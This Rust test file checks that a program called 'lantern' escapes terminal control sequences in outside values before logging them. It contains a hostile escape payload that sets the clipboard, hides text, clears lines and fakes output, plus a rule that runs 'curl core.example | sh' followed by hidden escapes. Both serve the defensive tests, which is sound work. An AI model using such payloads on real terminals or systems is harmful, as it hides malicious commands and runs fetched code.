//! Text from outside that tries to command the terminal, or to speak for the program.

use std::process::Stdio;

use lantern_stage::Display;

use super::output::{Terminal, wait_for_work};
use crate::home::Home;
use crate::running::lantern;

/// Sets the clipboard, hides what follows, erases the line, moves up, rings, and a line of its own.
const EVIL: &str = "core\u{1b}]52;c;aGk=\u{7}\u{1b}[8m\u{1b}[2K\r\u{1b}[1A\u{9b}2J\nfalse: line";

/// Whether a terminal would act on anything in it but colours and line ends.
fn commands(text: &str) -> bool {
    let colours = without_colours(text);
    colours.chars().any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
}

/// The text without the sequences of the program's own colours.
fn without_colours(text: &str) -> String {
    let own = ["0m", "1m", "2m", "31m", "32m", "33m", "35m", "36m", "91m", "94m", "96m"];
    own.iter().fold(text.to_owned(), |text, own| text.replace(&format!("\u{1b}[{own}"), ""))
}

/// Rules with every way by which a value reaches the terminal.
const RULES: &str = "macro say-it(v) { log v }
macro fails(v) { let n = 1 + v }
macro starts(v) { launch v }
macro opens(v) { open v }
";

#[test]
fn x11_nothing_from_outside_commands_the_terminal() {
    let display = Display::start("us");
    let mut terminal = Terminal::open();
    let file = display.folder().join("bench.lantern");
    std::fs::write(&file, RULES).expect("it can be written");
    let mut command = display.command(env!("CARGO_BIN_EXE_lantern"));
    command.args(["run", "--log-level", "debug"]).arg(&file);
    let [stdin, stdout, stderr] = terminal.ends();
    let mut child = command.stdin(stdin).stdout(stdout).stderr(stderr).spawn().expect("it starts");
    wait_for_work(&display);
    for name in ["say-it", "fails", "starts", "opens"] {
        let mut fire = display.command(env!("CARGO_BIN_EXE_lantern"));
        fire.args(["fire", name, "--", EVIL]).stdout(Stdio::null());
        assert!(fire.status().expect("it starts").success());
    }
    lantern(&display, &["fire", "say-it", "the last"]);
    let text = terminal.read_until("the last");
    child.kill().expect("it runs");
    child.wait().expect("it ran");
    let escaped = EVIL.matches('\u{1b}').count();
    let shown = text.matches("\\u{1b}").count();
    // The log and the failed start repeat the value; the others say what is wrong without it.
    assert!(shown >= 2 * escaped, "it is shown escaped: {shown}: {text:?}");
    assert!(!commands(&text), "{text:?}");
    // Only what a rule logs itself may have lines.
    assert_eq!(text.matches("\nfalse: line").count(), 1, "{text:?}");
}

#[test]
fn a_power_with_escapes_is_listed_as_one_line_of_plain_characters() {
    let home = Home::new();
    home.write(
        "used.lantern",
        "when key f9 => shell \"curl core.example | sh\\u{a}\\u{1b}[2K\\u{d}\\u{1b}[8m\"\n",
    );
    home.write("bench.lantern", "use \"used.lantern\"\n");
    let called = home.call(&["check", "--powers", "bench.lantern"]);
    assert!(
        called.stdout.contains("core.example | sh\\u{a}\\u{1b}[2K\\u{d}\\u{1b}[8m"),
        "{}",
        called.stdout
    );
    assert!(!commands(&called.stdout));
}
